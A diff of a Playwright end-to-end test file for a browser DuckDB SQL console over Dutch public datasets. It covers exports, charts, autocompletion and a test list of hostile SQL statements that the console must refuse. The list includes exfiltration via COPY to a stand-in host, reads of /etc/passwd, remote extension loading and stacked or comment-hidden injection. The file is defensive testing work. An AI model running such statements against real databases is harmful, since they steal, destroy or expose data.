@@ -5,6 +5,7 @@
 import { readFile } from 'node:fs/promises';
 import type { DuckDBConnection } from '@duckdb/node-api';
 import type { Browser, Page } from 'playwright-core';
+import readXlsxFile from 'read-excel-file/node';
 import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
 import type { Manifest } from '../../src/lib/manifest.ts';
 import { GENERAL_EXAMPLES, SQL_EXAMPLES } from '../../src/lib/sqlexamples.ts';
@@ -96,7 +97,7 @@ async function resultTable(page: Page): Promise<string[][]> {
 }
 
 async function download(page: Page, name: RegExp): Promise<{ path: string; filename: string }> {
-  const [dl] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name }).click()]);
+  const [dl] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name }).first().click()]);
   return { path: await dl.path(), filename: dl.suggestedFilename() };
 }
 
@@ -141,6 +142,50 @@ ORDER BY peildatum, sector, indicator`;
     expect(excelRaw).toContain(';40,2');
     const excelRows = (await csvRows(excel.path, ';')).map((r) => r.map((v) => v.replace(/^(-?\d+),(\d+)$/, '$1.$2')));
     expect(excelRows).toEqual(ref);
+
+    // XLSX and Parquet, from the explorer's own download bar: the same rows, numbers as numbers, and where
+    // they come from (publication, query).
+    const asText = (v: unknown) => (v === null || v === undefined ? '' : String(v));
+    const xlsx = await download(w.page, /^Download Excel-werkmap \(XLSX\)$/);
+    expect(xlsx.filename).toMatch(new RegExp(`^sql_${snapshot}_\\d{4}-\\d{2}-\\d{2}\\.xlsx$`));
+    const sheets = await readXlsxFile(xlsx.path);
+    expect(sheets.map((s) => s.sheet)).toEqual(['Gegevens', 'Bron en filters']);
+    const [head, ...body] = sheets[0].data;
+    expect(head).toEqual(['peildatum', 'sector', 'indicator', 'aantal', 'percentage']);
+    expect(body.map((r) => r.map(asText))).toEqual(ref);
+    expect(body.every((r) => typeof r[3] === 'number')).toBe(true);
+    const prov = Object.fromEntries(sheets[1].data.map((r) => [String(r[0]), String(r[1])]));
+    expect(prov.Publicatie).toBe(snapshot);
+    expect(prov.Query).toBe(sql);
+    expect(prov.Rijen).toBe(String(ref.length));
+    expect(prov['Geëxporteerd op']).toMatch(/^\d{4}-\d{2}-\d{2}T/);
+
+    const pq = await download(w.page, /^Download Parquet$/);
+    const pqRows = await queryRows(con, `SELECT * FROM read_parquet('${pq.path}')`);
+    expect(pqRows.map((r) => Object.values(r).map(asText))).toEqual(ref);
+    const kv = await queryRows(
+      con,
+      `SELECT decode(key) AS k, decode(value) AS v FROM parquet_kv_metadata('${pq.path}')`,
+    );
+    expect(kv.find((r) => r.k === 'Publicatie')?.v).toBe(snapshot);
+    expect(kv.find((r) => r.k === 'Query')?.v).toBe(sql);
+
+    // The chart of the result (peildatum against aantal, as a line), with its figures as a table too.
+    const chart = w.page.locator('.sql-chart');
+    await chart.locator('.plot svg').first().waitFor();
+    await expect(chart.getByLabel('Soort grafiek').inputValue()).resolves.toBe('line');
+    await expect(chart.getByLabel('Y-as (getallen)').inputValue()).resolves.toBe('aantal');
+    await chart.getByLabel('Kleur (optioneel)').selectOption('sector');
+    await chart.getByLabel('X-as').selectOption('indicator');
+    await chart.getByLabel('Soort grafiek').selectOption('bar');
+    await chart.locator('.plot svg').first().waitFor();
+    const chartTable = await chart
+      .locator('.chart-table tr')
+      .evaluateAll((trs) => trs.map((tr) => [...tr.children].map((c) => c.textContent!.trim())));
+    const meta = manifest.datasets.find((d) => d.id === 'wachtlijsten')!.columns;
+    const label = (name: string) => meta.find((c) => c.name === name)!.label.nl;
+    expect(chartTable[0]).toEqual([label('indicator'), label('sector'), label('aantal')]);
+    expect(chartTable.length - 1).toBe(ref.length);
     w.assertClean();
     await w.context.close();
   });
@@ -176,6 +221,21 @@ ORDER BY peildatum, sector, indicator`;
       await page.waitForTimeout(300);
       await page.keyboard.press('Enter');
       await expect(editor.innerText()).resolves.toBe('SELECT count(*) AS n FROM wachtlijsten');
+      // Column names complete too, bare and after their table's name.
+      await page.keyboard.insertText(' WHERE ');
+      await page.keyboard.type('indicato');
+      await page.locator('.cm-tooltip-autocomplete [role=option]', { hasText: 'indicator' }).first().waitFor();
+      await page.waitForTimeout(300);
+      await page.keyboard.press('Enter');
+      await page.keyboard.insertText(" <> '' AND wachtlijsten.");
+      await page.keyboard.type('peild');
+      await page.locator('.cm-tooltip-autocomplete [role=option]', { hasText: 'peildatum' }).first().waitFor();
+      await page.waitForTimeout(300);
+      await page.keyboard.press('Enter');
+      await expect(editor.innerText()).resolves.toBe(
+        "SELECT count(*) AS n FROM wachtlijsten WHERE indicator <> '' AND wachtlijsten.peildatum",
+      );
+      await page.keyboard.insertText(' IS NOT NULL OR true');
       let before = await runs(page);
       await page.keyboard.press('Control+Enter');
       expect(await waitRun(page, before)).toBe('done');
@@ -184,8 +244,10 @@ ORDER BY peildatum, sector, indicator`;
       expect((await resultTable(page))[1]).toEqual([String(rows)]);
       // The query is in the URL, so the page can be shared as it is.
       expect(new URLSearchParams(new URL(page.url()).hash.split('?')[1]).get('q')).toBe(
-        'SELECT count(*) AS n FROM wachtlijsten',
+        "SELECT count(*) AS n FROM wachtlijsten WHERE indicator <> '' AND wachtlijsten.peildatum IS NOT NULL OR true",
       );
+      // The label of the editor is visible, not only announced.
+      await expect(page.getByRole('heading', { name: 'SQL', exact: true }).isVisible()).resolves.toBe(true);
 
       // A column that does not exist: DuckDB's message, and the line and column it points at.
       await editor.click();
@@ -232,79 +294,101 @@ ORDER BY peildatum, sector, indicator`;
   });
 });
 
-type Expect = 'refused' | 'error' | 'harmless';
+/**
+ * What each hostile statement must get: refused by the console's gate (with the words of its reason), an
+ * error of DuckDB's own (its kind, as the alert names it: the sealed engine refuses files, has no extensions),
+ * or run harmlessly.
+ */
+type Expect = { refused: string } | { error: RegExp } | 'harmless';
 
-// Every kind of statement the console must not run, file and URL reads, extension tricks, settings, and
-// statements hiding behind comments or other statements. `error`: a read statement that the sealed engine
-// refuses when it runs (no file system, no extensions).
+const NOT = (keyword: string): Expect => ({ refused: `“${keyword}” is hier niet toegestaan` });
+const MULTIPLE: Expect = { refused: 'DuckDB leest hier niet één leesopdracht' };
+const CALLS = (fn: string): Expect => ({ refused: `De query roept ${fn}() aan` });
+const PERMISSION: Expect = { error: /^Permission$/ };
+/** In the browser's bundle a missing extension may be refused as a file access first. */
+const NO_EXTENSION: Expect = { error: /^(Catalog|Permission)$/ };
+
 const HOSTILE: [string, Expect][] = [
-  ["ATTACH 'https://example.com/evil.duckdb' AS evil", 'refused'],
-  ["ATTACH ':memory:' AS scratch", 'refused'],
-  ['DETACH scratch', 'refused'],
-  ["COPY wachtlijsten TO 'https://example.com/steal.csv'", 'refused'],
-  ["COPY (SELECT 1) TO '/tmp/x.csv'", 'refused'],
-  ["EXPORT DATABASE '/tmp/dump'", 'refused'],
-  ["IMPORT DATABASE 'https://example.com/dump'", 'refused'],
-  ['INSTALL httpfs', 'refused'],
-  ["INSTALL json FROM 'https://example.com/extensions'", 'refused'],
-  ['LOAD httpfs', 'refused'],
-  ["LOAD 'https://example.com/evil.duckdb_extension.wasm'", 'refused'],
-  ['SET enable_external_access = true', 'refused'],
-  ['SET lock_configuration = false', 'refused'],
-  ["SET memory_limit = '100GB'", 'refused'],
-  ['RESET ALL', 'refused'],
-  ["SET search_path = 'main'", 'refused'],
+  ["ATTACH 'https://example.com/evil.duckdb' AS evil", NOT('ATTACH')],
+  ["ATTACH ':memory:' AS scratch", NOT('ATTACH')],
+  ['DETACH scratch', NOT('DETACH')],
+  ["COPY wachtlijsten TO 'https://example.com/steal.csv'", NOT('COPY')],
+  ["COPY (SELECT 1) TO '/tmp/x.csv'", NOT('COPY')],
+  ["EXPORT DATABASE '/tmp/dump'", NOT('EXPORT')],
+  ["IMPORT DATABASE 'https://example.com/dump'", NOT('IMPORT')],
+  ['INSTALL httpfs', NOT('INSTALL')],
+  ["INSTALL json FROM 'https://example.com/extensions'", NOT('INSTALL')],
+  ['LOAD httpfs', NOT('LOAD')],
+  ["LOAD 'https://example.com/evil.duckdb_extension.wasm'", NOT('LOAD')],
+  ['SET enable_external_access = true', NOT('SET')],
+  ['SET lock_configuration = false', NOT('SET')],
+  ["SET memory_limit = '100GB'", NOT('SET')],
+  ['RESET ALL', NOT('RESET')],
+  ["SET search_path = 'main'", NOT('SET')],
   [
     "SET autoinstall_known_extensions = true; SET autoload_known_extensions = true; SELECT * FROM read_parquet('https://example.com/x.parquet')",
-    'refused',
+    NOT('SET'),
   ],
-  ['PRAGMA enable_profiling', 'refused'],
-  ["PRAGMA table_info('wachtlijsten')", 'refused'],
-  ['CREATE TABLE stolen AS SELECT * FROM wachtlijsten', 'refused'],
-  ['CREATE MACRO m(x) AS x + 1', 'refused'],
-  ["CREATE SECRET (TYPE http, BEARER_TOKEN 'x')", 'refused'],
-  ["INSERT INTO wachtlijsten (sector) VALUES ('x')", 'refused'],
-  ['UPDATE rechtmatigheid SET bedrag = 0', 'refused'],
-  ['DELETE FROM wachtlijsten', 'refused'],
-  ['DROP TABLE wachtlijsten', 'refused'],
-  ['ALTER TABLE wachtlijsten RENAME TO w', 'refused'],
-  ['CALL pragma_version()', 'refused'],
-  ['CHECKPOINT', 'refused'],
-  ['USE main', 'refused'],
-  ['SELECT 1; DROP TABLE wachtlijsten', 'refused'],
-  ['SELECT 1 /* ; */; DROP TABLE rechtmatigheid', 'refused'],
-  ["SELECT ';'; DELETE FROM wachtlijsten", 'refused'],
-  ['/* only a comment */ DROP TABLE wachtlijsten -- SELECT 1', 'refused'],
-  ['-- SELECT 1\nDELETE FROM wachtlijsten', 'refused'],
-  ['/* nested /* comment */ SELECT 1 */ DROP TABLE wachtlijsten', 'refused'],
-  ['WITH x AS (SELECT 1) INSERT INTO wachtlijsten (aantal) SELECT * FROM x', 'refused'],
-  ['EXPLAIN ANALYZE DROP TABLE wachtlijsten', 'refused'],
-  ["SELECT * FROM query('DROP TABLE wachtlijsten')", 'refused'],
-  ['SELECT 1\u0000; DROP TABLE wachtlijsten', 'refused'],
-  ["SELECT * FROM read_csv('https://example.com/data.csv')", 'error'],
-  ["SELECT * FROM 'http://example.com/x.csv'", 'error'],
-  ["SELECT * FROM read_parquet('/etc/passwd')", 'error'],
-  ["SELECT * FROM read_text('/etc/passwd')", 'error'],
-  ["SELECT * FROM read_blob('https://example.com/')", 'error'],
-  ["SELECT * FROM read_json('https://example.com/a.json')", 'error'],
-  ["SELECT * FROM glob('*')", 'error'],
-  [`SELECT * FROM sniff_csv('data/${'e2e-2024-12'}/manifest.json')`, 'error'],
-  ['SELECT * FROM arrow_scan(1, 2, 3)', 'error'],
+  ['PRAGMA enable_profiling', NOT('PRAGMA')],
+  ["PRAGMA table_info('wachtlijsten')", NOT('PRAGMA')],
+  ['CREATE TABLE stolen AS SELECT * FROM wachtlijsten', NOT('CREATE')],
+  ['CREATE MACRO m(x) AS x + 1', NOT('CREATE')],
+  ["CREATE SECRET (TYPE http, BEARER_TOKEN 'x')", NOT('CREATE')],
+  ["INSERT INTO wachtlijsten (sector) VALUES ('x')", NOT('INSERT')],
+  ['UPDATE rechtmatigheid SET bedrag = 0', NOT('UPDATE')],
+  ['DELETE FROM wachtlijsten', NOT('DELETE')],
+  ['DROP TABLE wachtlijsten', NOT('DROP')],
+  ['ALTER TABLE wachtlijsten RENAME TO w', NOT('ALTER')],
+  ['CALL pragma_version()', NOT('CALL')],
+  ['CHECKPOINT', NOT('CHECKPOINT')],
+  ['USE main', NOT('USE')],
+  ['SELECT 1; DROP TABLE wachtlijsten', MULTIPLE],
+  ['SELECT 1 /* ; */; DROP TABLE rechtmatigheid', MULTIPLE],
+  ["SELECT ';'; DELETE FROM wachtlijsten", MULTIPLE],
+  ['/* only a comment */ DROP TABLE wachtlijsten -- SELECT 1', NOT('DROP')],
+  ['-- SELECT 1\nDELETE FROM wachtlijsten', NOT('DELETE')],
+  ['/* nested /* comment */ SELECT 1 */ DROP TABLE wachtlijsten', NOT('DROP')],
+  ['WITH x AS (SELECT 1) INSERT INTO wachtlijsten (aantal) SELECT * FROM x', MULTIPLE],
+  ['EXPLAIN ANALYZE DROP TABLE wachtlijsten', MULTIPLE],
+  ["SELECT * FROM query('DROP TABLE wachtlijsten')", MULTIPLE],
+  ['SELECT 1\u0000; DROP TABLE wachtlijsten', { refused: 'ongeldig teken (NUL)' }],
+  // Table functions that change the engine: enable_logging to a file would make every later query fail.
+  ["SELECT * FROM enable_logging(storage='file', storage_path='x')", CALLS('enable_logging')],
+  ['SELECT * FROM checkpoint()', CALLS('checkpoint')],
+  ['SELECT * FROM force_checkpoint()', CALLS('force_checkpoint')],
+  ['SELECT * FROM disable_logging()', CALLS('disable_logging')],
+  ['SELECT * FROM truncate_duckdb_logs()', CALLS('truncate_duckdb_logs')],
+  ['SELECT n FROM range(1) r(n) WHERE n < (SELECT count(*) FROM checkpoint())', CALLS('checkpoint')],
+  ['PIVOT wachtlijsten ON sector USING sum(aantal)', { refused: 'PIVOT zonder IN kan hier niet' }],
+  ["SELECT * FROM read_csv('https://example.com/data.csv')", PERMISSION],
+  ["SELECT * FROM 'http://example.com/x.csv'", PERMISSION],
+  ["SELECT * FROM read_parquet('/etc/passwd')", NO_EXTENSION],
+  ["SELECT * FROM read_text('/etc/passwd')", PERMISSION],
+  ["SELECT * FROM read_blob('https://example.com/')", PERMISSION],
+  ["SELECT * FROM read_json('https://example.com/a.json')", NO_EXTENSION],
+  ["SELECT * FROM glob('*')", PERMISSION],
+  // The sniffer plans without opening its file, so the gate refuses it as a function that reads elsewhere.
+  [`SELECT * FROM sniff_csv('data/${'e2e-2024-12'}/manifest.json')`, CALLS('sniff_csv')],
+  ['SELECT * FROM arrow_scan(1, 2, 3)', { error: /^Binder$/ }],
   ["SELECT current_setting('enable_external_access') AS open", 'harmless'],
   ['SELECT * FROM duckdb_extensions() WHERE loaded', 'harmless'],
+  ['EXPLAIN (FORMAT json) SELECT count(*) FROM wachtlijsten', 'harmless'],
 ];
 
 describe('hostile statements', () => {
   it(
-    `refuses or disarms all ${HOSTILE.length}, with an alert, no request, and keeps answering`,
+    `refuses or disarms all ${HOSTILE.length}, each for its own reason, with no request, and keeps answering`,
     { timeout: T },
     async () => {
       const w = await openPage(browser, baseUrl);
       await open(w);
       const page = w.page;
-      // From here on nothing may be fetched at all: every table is in the engine already.
+      // From here on nothing may be fetched but the site's own code (the chart's Plot chunk): every table is in
+      // the engine already.
       const requests: string[] = [];
-      page.on('request', (r) => requests.push(r.url()));
+      page.on('request', (r) => {
+        if (!r.url().startsWith(`${baseUrl}/assets/`)) requests.push(r.url());
+      });
       const normal = 'SELECT count(*) AS n FROM rechtmatigheid';
       const rows = String(manifest.datasets.find((d) => d.id === 'rechtmatigheid')!.rows);
       const seen: string[] = [];
@@ -314,10 +398,18 @@ describe('hostile statements', () => {
         if (kind === 'harmless') {
           expect(outcome, sql).toBe('done');
         } else {
-          expect(outcome, sql).toBe(kind === 'refused' ? 'refused' : 'error');
           await expect(alert.isVisible(), sql).resolves.toBe(true);
           const text = await alert.innerText();
-          expect(text.length, sql).toBeGreaterThan(20);
+          if ('refused' in kind) {
+            expect(outcome, sql).toBe('refused');
+            expect(text, sql).toMatch(/^Deze opdracht is geweigerd\n/);
+            expect(text, sql).toContain(kind.refused);
+          } else {
+            expect(outcome, sql).toBe('error');
+            expect(text, sql).toMatch(/^DuckDB kon de query niet uitvoeren\n/);
+            const type = /Soort fout volgens DuckDB: (.+)$/m.exec(text)?.[1];
+            expect(type, `${sql}: ${text}`).toMatch(kind.error);
+          }
           seen.push(
             `${sql.replaceAll('\n', '\\n').replaceAll('\u0000', '\\0')} → ${text.split('\n').filter(Boolean).slice(0, 2).join(' / ')}`,
           );
@@ -400,6 +492,10 @@ describe('hostile statements', () => {
       'alleen de eerste 1.000.000 rijen',
     );
     expect((await resultTable(page)).length - 1).toBe(1000);
+    // Both columns are called "range": the chart offers the name once and draws nothing of the same column twice.
+    await expect(page.locator('.sql-chart').getByLabel('X-as').locator('option').allInnerTexts()).resolves.toEqual([
+      'range',
+    ]);
     expect(await runViaUrl(page, 'SELECT 7 AS x')).toBe('done');
     w.assertClean();
     await w.context.close();
